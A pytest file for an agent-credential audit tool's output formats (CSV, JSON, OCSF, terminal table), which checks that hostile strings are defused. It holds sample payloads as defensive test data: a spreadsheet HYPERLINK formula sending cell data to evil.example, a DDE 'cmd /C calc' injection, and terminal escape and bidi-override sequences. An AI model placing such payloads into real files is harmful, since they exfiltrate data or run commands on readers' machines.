"""Renderers over a scan result: each format parses, unknown is null, hostile strings are
defused (CSV formulas, terminal escapes), OCSF validates against the OCSF 1.7.0 schema."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime
from typing import Any

import pytest
from pydantic import BaseModel

from jitaudit.detections.runner import Coverage, Finding
from jitaudit.output import FORMATS, render
from jitaudit.output.ocsf import OCSF_VERSION, epoch_ms
from jitaudit.output.table import grants_table
from jitaudit.scan import ScanResult
from jitaudit.suppressions import Suppression

CONTRACT_FIELDS = {
    "finding_id",
    "detection_id",
    "title",
    "severity",
    "agent_id",
    "principal_id",
    "credential_id",
    "task_id",
    "first_seen",
    "last_seen",
    "summary",
    "evidence",
    "controls",
    "status",
}
SCANNED_AT = datetime(2026, 11, 5, 6, 0)
HYPERLINK = '=HYPERLINK("https://evil.example/x?d="&A1,"details")'
#: OCSF evidences must carry at least one of these (a schema constraint pydantic-ocsf skips)
EVIDENCE_AT_LEAST_ONE = {
    "actor", "api", "connection_info", "data", "database", "databucket", "device",
    "dst_endpoint", "email", "file", "process", "query", "resources", "src_endpoint", "url",
    "user", "job", "script",
}  # fmt: skip


def _evidence(n: int) -> list[dict[str, Any]]:
    return [
        {
            "table": "uses",
            "event_id": f"ev-{i}",
            "source": "vault",
            "source_file": "audit.log",
            "source_offset": i,
        }
        for i in range(n)
    ]


def _finding(**kw: Any) -> Finding:
    base: dict[str, Any] = {
        "finding_id": "jit-aaa",
        "detection_id": "JIT-001",
        "title": "Credential used outside its grant's scope or its task's targets",
        "severity": "high",
        "subject": "grant:tok-1",
        "agent_id": "worker-billing-001",
        "principal_id": "entity-1",
        "credential_id": "tok-1",
        "task_id": "task-1",
        "first_seen": datetime(2026, 11, 2, 9, 0),
        "last_seen": datetime(2026, 11, 2, 9, 15, 0, 250000),
        "summary": "1 use(s) of tok-1 outside its scope.",
        "events": 2,
        "evidence": _evidence(2),
        "controls": [{"framework": "owasp-nhi", "control_id": "NHI5", "title": "Overprivileged"}],
        "status": "new",
    }
    return Finding(**{**base, **kw})


@pytest.fixture
def result() -> ScanResult:
    findings = [
        _finding(),
        _finding(
            finding_id="jit-bbb",
            detection_id="JIT-003",
            severity="critical",
            status="open",
            events=1,
            evidence=_evidence(1),
        ),
        _finding(
            finding_id="jit-ccc",
            detection_id="JIT-009",
            severity="medium",
            status="suppressed",
            suppression={"detection": "JIT-009", "owner": "alice@example.com"},
        ),
        _finding(finding_id="jit-ddd", detection_id="JIT-007", severity="low", status="resolved"),
        # a per-source finding: nothing known about agent, credential, task; blanks from a log
        _finding(
            finding_id="jit-eee",
            detection_id="JIT-014",
            severity="info",
            subject="source:gcp|silent:2026-11-04 03:00:00",
            agent_id="",
            principal_id=None,
            credential_id=None,
            task_id="",
            first_seen=None,
            last_seen=None,
            controls=[],
            evidence=[{**_evidence(1)[0], "source_file": ""}],
        ),
        # hostile log strings
        _finding(
            finding_id="jit-fff",
            detection_id="JIT-015",
            severity="medium",
            agent_id="@SUM(1+1)*cmd|' /C calc'!A0",
            credential_id="-2+3",
            task_id="+task",
            summary=HYPERLINK,
            title="\tTab title",
            principal_id="\rcarriage",
        ),
    ]
    return ScanResult(
        scan_id="scan-test",
        scanned_at=SCANNED_AT,
        mode="full",
        watermark=3,
        detections=["JIT-001", "JIT-003", "JIT-007", "JIT-009", "JIT-014", "JIT-015"],
        findings=findings,
        coverage=[Coverage("JIT-001", 700, 147), Coverage("JIT-014", 0, 0)],
        expired_suppressions=[
            Suppression("JIT-004", {"agent_id": "a"}, "bob@example.com", "legacy", date(2026, 1, 1))
        ],
    )


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_renders_an_empty_scan(fmt: str, result: ScanResult) -> None:
    result.findings, result.coverage, result.expired_suppressions = [], [], []
    text = render(result, fmt)
    if fmt == "json":
        assert json.loads(text)["findings"] == []
    elif fmt == "ocsf":
        assert json.loads(text) == []
    elif fmt == "csv":
        assert list(csv.reader(io.StringIO(text)))[1:] == []
    elif fmt == "jsonl":
        assert text == ""
    else:
        assert "no findings" in text


def test_jsonl_has_the_contract_fields_and_null_never_blank(result: ScanResult) -> None:
    lines = render(result, "jsonl").splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["finding_id"] for r in records] == [f.finding_id for f in result.findings]
    for r in records:
        assert set(r) >= CONTRACT_FIELDS
        assert "" not in _strings(r)
    source = next(r for r in records if r["detection_id"] == "JIT-014")
    assert source["agent_id"] is None and source["task_id"] is None
    assert source["first_seen"] is None and source["evidence"][0]["source_file"] is None
    suppressed = next(r for r in records if r["status"] == "suppressed")
    assert suppressed["suppression"]["owner"] == "alice@example.com"


def test_json_document_has_findings_coverage_and_expired_suppressions(result: ScanResult) -> None:
    doc = json.loads(render(result, "json"))
    assert len(doc["findings"]) == len(result.findings)
    assert doc["coverage"][0] == {
        "detection_id": "JIT-001",
        "verifiable": 700,
        "unverifiable": 147,
        "note": None,
    }
    assert doc["expired_suppressions"][0]["owner"] == "bob@example.com"
    assert doc["mode"] == "full" and doc["scan_id"] == "scan-test"
    assert "" not in _strings(doc["findings"])


def test_csv_neutralises_formula_injection(result: ScanResult) -> None:
    rows = list(csv.DictReader(io.StringIO(render(result, "csv"))))
    assert len(rows) == len(result.findings)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    hostile = next(r for r in rows if r["detection_id"] == "JIT-015")
    assert hostile["summary"] == "'" + HYPERLINK
    assert hostile["agent_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert hostile["credential_id"] == "'-2+3"
    assert hostile["task_id"] == "'+task"
    assert hostile["title"] == "'\tTab title"
    assert hostile["principal_id"] == "'\rcarriage"
    # ordinary cells are left exactly as they are
    plain = rows[0]
    assert plain["agent_id"] == "worker-billing-001" and plain["events"] == "2"
    assert plain["evidence_count"] == "2" and plain["controls"] == "owasp-nhi:NHI5"
    assert plain["last_seen"] == "2026-11-02T09:15:00.250000"
    source = next(r for r in rows if r["detection_id"] == "JIT-014")
    assert source["agent_id"] == "" and source["evidence_count"] == "1"


def _extras(model: Any, path: str = "") -> list[str]:
    """Attributes the OCSF schema does not define (pydantic-ocsf allows and keeps them)."""
    if isinstance(model, list):
        return [e for i, m in enumerate(model) for e in _extras(m, f"{path}[{i}]")]
    if not isinstance(model, BaseModel):
        return []
    found = [f"{path}.{k}" for k in model.model_extra or {}]
    for name in type(model).model_fields:
        if name != "unmapped":  # the schema's place for what it has no attribute for
            found += _extras(getattr(model, name), f"{path}.{name}")
    return found


def validate_ocsf(events: list[dict[str, Any]]) -> None:
    """Each event is a valid OCSF 1.7.0 Detection Finding with only schema attributes."""
    from ocsf.v1_7_0.events import DetectionFinding

    for event in events:
        model = DetectionFinding.model_validate(event)
        assert _extras(model) == []
        assert event["class_uid"] == 2004 and event["category_uid"] == 2
        assert event["metadata"]["version"] == OCSF_VERSION
        assert event["metadata"]["product"]["name"] == "jitaudit"
        assert event["metadata"]["product"]["vendor_name"] == "jitaudit"
        assert event["metadata"]["product"]["version"]
        for evidence in event.get("evidences", []):
            assert EVIDENCE_AT_LEAST_ONE & set(evidence)


def test_ocsf_is_valid_detection_findings_mapped_from_the_findings(result: ScanResult) -> None:
    events = json.loads(render(result, "ocsf"))
    validate_ocsf(events)
    by_uid = {e["finding_info"]["uid"]: e for e in events}
    assert set(by_uid) == {f.finding_id for f in result.findings}
    expected = {
        "new": (1, "New"),
        "open": (2, "In Progress"),
        "suppressed": (3, "Suppressed"),
        "resolved": (4, "Resolved"),
    }
    severity_ids = {"info": 1, "low": 2, "medium": 3, "high": 4, "critical": 5}
    for f in result.findings:
        e = by_uid[f.finding_id]
        assert (e["status_id"], e["status"]) == expected[f.status]
        assert e["severity_id"] == severity_ids[f.severity]
        assert e["finding_info"]["title"] == f.title
        assert e["finding_info"]["desc"] == f.summary
        assert e["finding_info"]["analytic"]["uid"] == f.detection_id
        assert [x["uid"] for x in e["evidences"]] == [x["event_id"] for x in f.evidence]
    first = by_uid["jit-aaa"]
    assert first["time"] == epoch_ms(datetime(2026, 11, 2, 9, 15, 0, 250000)) == 1793610900250
    assert first["finding_info"]["first_seen_time"] == 1793610000000
    assert first["finding_info"]["last_seen_time"] == 1793610900250
    cred = first["resources"][0]
    assert cred["uid"] == "tok-1" and cred["owner"]["name"] == "worker-billing-001"
    # a finding with no known instant is timed at the scan; unknowns are omitted, not ""
    source = by_uid["jit-eee"]
    assert source["time"] == epoch_ms(SCANNED_AT)
    assert "first_seen_time" not in source["finding_info"]
    assert "" not in _strings(source)


def test_ocsf_validation_rejects_a_broken_event(result: ScanResult) -> None:
    """The validator used above has teeth: a wrong severity or a missing uid fails."""
    from ocsf.v1_7_0.events import DetectionFinding
    from pydantic import ValidationError

    event = json.loads(render(result, "ocsf"))[0]
    with pytest.raises(ValidationError):
        DetectionFinding.model_validate({**event, "severity_id": 7})
    del event["finding_info"]["uid"]
    with pytest.raises(ValidationError):
        DetectionFinding.model_validate(event)


def test_table_shows_findings_coverage_and_expired_suppressions(result: ScanResult) -> None:
    text = render(result, "table")
    lines = text.splitlines()
    header = next(i for i, ln in enumerate(lines) if ln.startswith("SEVERITY"))
    assert lines[header].split() == [
        "SEVERITY",
        "DETECTION",
        "STATUS",
        "AGENT",
        "CREDENTIAL",
        "SUMMARY",
    ]
    # most severe first
    assert lines[header + 1].split()[:3] == ["critical", "JIT-003", "open"]
    assert "worker-billing-001" in lines[header + 2] and "tok-1" in lines[header + 2]
    cover = lines[lines.index(next(ln for ln in lines if ln.startswith("coverage"))) + 2]
    assert cover.split() == ["JIT-001", "700", "147", "83", "%"]
    assert "bob@example.com" in text and "expired 2026-01-01" in text


def test_table_escapes_terminal_control_sequences(result: ScanResult) -> None:
    result.findings[0].agent_id = "evil\x1b[2J\x1b[31magent"
    result.findings[0].summary = "ok\u202eelif\u202c done"
    text = render(result, "table")
    assert "\x1b" not in text and "\u202e" not in text
    assert "evil\\x1b[2J" in text and "\\u202e" in text


def test_table_shortens_summaries_to_the_terminal_width(result: ScanResult) -> None:
    result.findings[0].summary = "word " * 100
    lines = render(result, "table", width=140).splitlines()
    row = next(ln for ln in lines if "worker-billing-001" in ln and "JIT-001" in ln)
    assert len(row) <= 140 and row.endswith("…")


def test_grants_table_shows_remaining_ttl_and_unknown_expiry() -> None:
    at = datetime(2026, 11, 2, 14, 30)
    grant = {
        "grant_id": "g1",
        "credential_id": "tok-1",
        "source": "vault",
        "agent_id": "worker-billing-001",
        "task_id": "task-1",
        "scope": ["s3:GetObject"],
        "issued_at": datetime(2026, 11, 2, 14, 0),
        "remaining_seconds": 1802,
    }
    unknown = {**grant, "credential_id": "lease-2", "scope": None, "remaining_seconds": None}
    lines = grants_table([grant, unknown], at).splitlines()
    assert lines[0] == "2 grant(s) valid at 2026-11-02T14:30:00Z (1 with unknown expiry)"
    row = next(ln for ln in lines if ln.startswith("tok-1")).split()
    assert row[-3:] == ["30m", "02s", "s3:GetObject"] and "task-1" in row
    row = next(ln for ln in lines if ln.startswith("lease-2")).split()
    assert row[-2:] == ["unknown", "unknown"]
